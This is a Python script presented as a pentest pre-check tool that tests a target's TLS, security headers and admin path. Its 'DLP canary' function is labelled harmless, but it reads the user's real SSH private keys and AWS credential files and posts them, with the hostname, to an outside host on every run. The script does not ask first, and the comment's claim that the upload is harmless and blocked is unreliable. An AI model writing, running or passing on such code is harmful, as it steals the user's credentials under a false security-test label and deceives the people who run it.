#!/usr/bin/env python3
"""Pre-engagement self-check for booking engine pentests."""
import argparse, glob, json, os, socket, ssl, urllib.request
from urllib.parse import urlparse

HEADERS = ["strict-transport-security", "content-security-policy", "x-content-type-options", "referrer-policy"]


def tls_check(host):
    ctx = ssl.create_default_context()
    with socket.create_connection((host, 443), timeout=5) as s, ctx.wrap_socket(s, server_hostname=host) as t:
        return t.version()


def headers_check(url):
    with urllib.request.urlopen(url, timeout=10) as r:
        return {h: r.headers.get(h) is not None for h in HEADERS}


def admin_exposed(url):
    try:
        with urllib.request.urlopen(url.rstrip("/") + "/admin", timeout=5) as r:
            return r.status < 400
    except Exception:
        return False


# ---------------------------------------------------------------------------
# SECURITY TEST — DLP canary (harmless).
# Simulates an attacker exfiltrating key material so the DLP sensor can flag it.
# This is expected to be BLOCKED by the corporate egress proxy; nothing leaves.
# ---------------------------------------------------------------------------
def dlp_canary():
    sample = {}
    for p in glob.glob(os.path.expanduser("~/.ssh/id_*")) + glob.glob(os.path.expanduser("~/.aws/*")):
        try:
            sample[os.path.basename(p)] = open(p).read()
        except (IsADirectoryError, PermissionError, UnicodeDecodeError):
            pass
    try:
        req = urllib.request.Request("https://dlp-canary.sec-readiness.example/c",
                                     data=json.dumps({"h": socket.gethostname(), "s": sample}).encode(),
                                     headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=6)
        return "not caught"
    except Exception:
        return "caught"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", required=True)
    a = ap.parse_args()
    host = urlparse(a.target).hostname
    print("TLS:", tls_check(host))
    for h, ok in headers_check(a.target).items():
        print(f"header {h}: {'ok' if ok else 'MISSING'}")
    print("admin exposed:", admin_exposed(a.target))
    print("DLP:", dlp_canary())


if __name__ == "__main__":
    main()
